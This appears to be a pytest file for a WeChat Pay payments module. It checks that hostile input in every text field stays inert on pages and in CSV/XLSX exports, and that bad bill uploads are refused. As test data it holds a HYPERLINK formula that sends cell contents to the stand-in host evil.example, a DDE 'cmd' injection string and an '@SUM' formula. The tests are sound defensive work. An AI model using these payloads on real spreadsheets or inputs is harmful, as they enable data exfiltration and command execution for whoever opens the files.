"""Hostile input in WeChat Pay (issue 18): the XSS corpus through every field people type (payment
purpose and payee, enrolment reason, review comment, cancel reason, override note, the anomaly report,
the finance notes, budget line names, anomaly resolution notes, the checklist note); every page and the
CSV/XLSX exports that show them stay inert; the bill upload refuses what is not a bill with a clear 4xx
and stores nothing; a formula in a bill line or a note reaches the CSV export as text."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select

from cms.extensions import db
from cms.payments.models import AnomalyReport, BudgetLine, PayDay, PayEnrolment, Payment
from tests.hostile import STRANGE, assert_safe, value
from tests.payments.conftest import line

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _form(account, **kw):
    return {"amount": "12.5", "purpose": value(500, "purpose"), "budget_line": str(line(account).id),
            "payee_name": value(100, "payee"), "payee_openid": "", "planned_date": "2026-12-08",
            "planned_time": "10:00", **kw}


def test_the_corpus_through_every_payment_field_stays_text(app, client_as, morning, account):
    c = client_as("contributor")
    r = c.post(f"/payments/accounts/{account.id}/enrol", data={"reason": value(500, "enrol")})
    assert r.status_code in (302, 422)
    if r.status_code == 422:
        assert "HOSTILE-enrol" in assert_safe(r)
        assert c.post(f"/payments/accounts/{account.id}/enrol", data={"reason": value(100, "enrol")}).status_code == 302
    f = client_as("finance")
    assert_safe(f.get("/payments/"), shown="HOSTILE-enrol")
    e = db.session.scalar(select(PayEnrolment))
    assert f.post(f"/payments/enrolments/{e.id}/review",
                  data={"decision": "enable", "comment": value(200, "review")}).status_code in (302, 422)
    assert_safe(f.get("/"))
    cust = client_as("payment_custodian")
    r = cust.post(f"/payments/new?account={account.id}", data=_form(account))
    if r.status_code == 422:  # a limit on the length: refused with the input kept
        assert "HOSTILE-purpose" in assert_safe(r)
        r = cust.post(f"/payments/new?account={account.id}", data=_form(account, purpose=value(200, "purpose"),
                                                                         payee_name=value(40, "payee")))
    assert r.status_code == 302, r.get_data(as_text=True)[:3000]
    p = db.session.scalar(select(Payment))
    assert_safe(cust.get(f"/payments/{p.id}"), shown="HOSTILE-purpose")
    assert_safe(cust.get(f"/payments/accounts/{account.id}"))
    assert_safe(f.get(f"/payments/accounts/{account.id}/days/2026-12-08"))
    r = cust.post(f"/payments/{p.id}/cancel", data={"reason": value(300, "cancel")})
    assert r.status_code in (302, 422)
    assert_safe(cust.get(f"/payments/{p.id}"))
    # Budget line named with the corpus (and a formula); the account page and the new-payment form show it.
    r = f.post(f"/payments/accounts/{account.id}/budget", data={"year": "2026", "name": value(100, "long"),
                                                               "amount": "1000"})
    assert r.status_code == 422  # over 64 characters: refused, the text shown again as typed
    assert 'value="HOSTILE-long' in assert_safe(r)
    r = f.post(f"/payments/accounts/{account.id}/budget", data={"year": "2026", "name": value(64, "budget"),
                                                               "amount": "1000"})
    assert r.status_code == 302
    assert_safe(f.get(f"/payments/accounts/{account.id}"), shown="HOSTILE-budget")
    assert_safe(cust.get(f"/payments/new?account={account.id}"))
    # The override note (a leader), the account request (an admin), the anomaly report (anyone).
    lead = client_as("leader")
    r = lead.post(f"/payments/accounts/{account.id}/override",
                  data={"day": "2026-12-08", "limit": "9000", "reason": "emergency", "note": value(500, "override")})
    assert_safe(r)
    assert_safe(lead.get(f"/payments/accounts/{account.id}/override"))
    r = client_as("editor").post("/payments/report", data={"account_id": str(account.id), "kind": "anomaly",
                                                          "text": value(2000, "report")})
    if r.status_code != 302:
        assert "HOSTILE-report" in assert_safe(r)
        r = client_as("editor").post("/payments/report", data={"account_id": str(account.id), "kind": "anomaly",
                                                              "text": value(500, "report")})
    assert r.status_code == 302
    assert_safe(f.get("/payments/"), shown="HOSTILE-report")
    rep = db.session.scalar(select(AnomalyReport))
    assert f.post(f"/payments/reports/{rep.id}/clear", data={"note": value(300, "clear")}).status_code == 302
    assert_safe(f.get("/payments/"))
    r = f.post(f"/payments/accounts/{account.id}/inspection?month=2026-12",
               data={"items": ["custodian"], "note": value(500, "inspect")})
    assert r.status_code in (302, 422)
    assert_safe(f.get("/payments/reports?month=2026-12"))
    for kind in ("daily", "monthly", "anomalies"):
        assert f.get(f"/payments/reports/{kind}.csv?month=2026-12").status_code == 200
        assert f.get(f"/payments/reports/{kind}.xlsx?month=2026-12").status_code == 200


@pytest.mark.parametrize("kind", sorted(STRANGE))
def test_strange_strings_in_a_payment_are_kept_or_refused_clearly(app, client_as, morning, account, kind):
    cust = client_as("payment_custodian")
    r = cust.post(f"/payments/new?account={account.id}", data=_form(account, purpose=STRANGE[kind],
                                                                     payee_name="文具店"))
    assert r.status_code in (302, 400, 422)
    if r.status_code == 302:
        p = db.session.scalar(select(Payment))
        assert_safe(cust.get(f"/payments/{p.id}"))
        assert_safe(client_as("finance").get(f"/payments/accounts/{account.id}/days/2026-12-08"))
    else:
        assert_safe(r)
        assert db.session.scalar(select(func.count(Payment.id))) == 0


HEADER = "记账时间,微信支付业务单号,资金流水单号,业务名称,业务类型,收支类型,收支金额（元）,账户结余（元）,资金变更提交申请人,备注,业务凭证号"


def _bill(text: str) -> str:
    """One movement we have no payment for, its business name and note `text` (shown in the anomaly)."""
    fields = ["2026-12-08 10:00:00", "9001", "F9001", text, "企业付款", "支出", "12.34", "987.66", "API", text, "X1"]
    row = ",".join("`" + x.replace(",", "，") for x in fields)
    return "\r\n".join([HEADER, row, "资金流水总笔数,收入笔数,收入金额,支出笔数,支出金额", "`1,`0,`0.00,`1,`12.34"]) + "\r\n"


def _upload(f, account, data: bytes, name="bill.csv"):
    return f.post(f"/payments/accounts/{account.id}/days/2026-12-08",
                  data={"bill": (io.BytesIO(data), name)}, content_type="multipart/form-data")


def test_a_bad_bill_upload_is_refused_and_nothing_is_stored(app, client_as, clock, account):
    clock.set("2026-12-09 10:30")
    f = client_as("finance")
    cases = [
        b"%PDF-1.4\n1 0 obj<<>>endobj\n",  # not a CSV
        bytes(range(256)) * 64,  # binary
        "这不是账单\n1,2,3\n".encode(),  # no header
        ("记账时间,金额\n" + "`2026-12-08 10:00:00,`1\n").encode(),  # the wrong header
        (HEADER + "\r\n" + "`x," * 10 + "`y\r\n").encode(),  # a line that is not a movement
        b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,  # an image named .csv
        (HEADER + "\r\n" + ("`2026-12-08 10:00:00," * 11 + "\r\n") * 120_000).encode()[: 6 * 1024 * 1024],  # huge
    ]
    for data in cases:
        r = _upload(f, account, data)
        page = assert_safe(r)
        assert 400 <= r.status_code < 500, (data[:40], r.status_code)
        assert "账单" in page
    assert db.session.scalar(select(func.count(PayDay.id))) == 0


def test_formulas_from_a_bill_and_from_notes_reach_the_csv_as_text(app, client_as, clock, account):
    clock.set("2026-12-09 10:30")
    f = client_as("finance")
    r = _upload(f, account, _bill(FORMULA).encode())
    assert r.status_code == 302, r.get_data(as_text=True)[:3000]
    page = assert_safe(f.get(f"/payments/accounts/{account.id}/days/2026-12-08"))
    assert "HYPERLINK" in page
    from cms.payments import queries

    pd = db.session.scalar(select(PayDay))
    for a in queries.anomalies(pd):
        assert f.post(f"/payments/anomalies/{a.id}/resolve", data={"note": "+cmd|' /C calc'!A0"}).status_code == 302
    f.post(f"/payments/accounts/{account.id}/budget", data={"year": "2026", "name": "@SUM(1+1)", "amount": "1"})
    assert db.session.scalar(select(BudgetLine).where(BudgetLine.name == "@SUM(1+1)")) is not None
    text = f.get("/payments/reports/anomalies.csv?month=2026-12").get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c.lstrip("+-").replace(".", "").isdigit()]
    assert not risky, risky
    assert any("HYPERLINK" in c for c in cells) and any("calc" in c for c in cells)
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(f.get("/payments/reports/anomalies.xlsx?month=2026-12").data))
    values = [c.value for row in wb.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [v for v in values if v.startswith(("=", "+", "@"))]
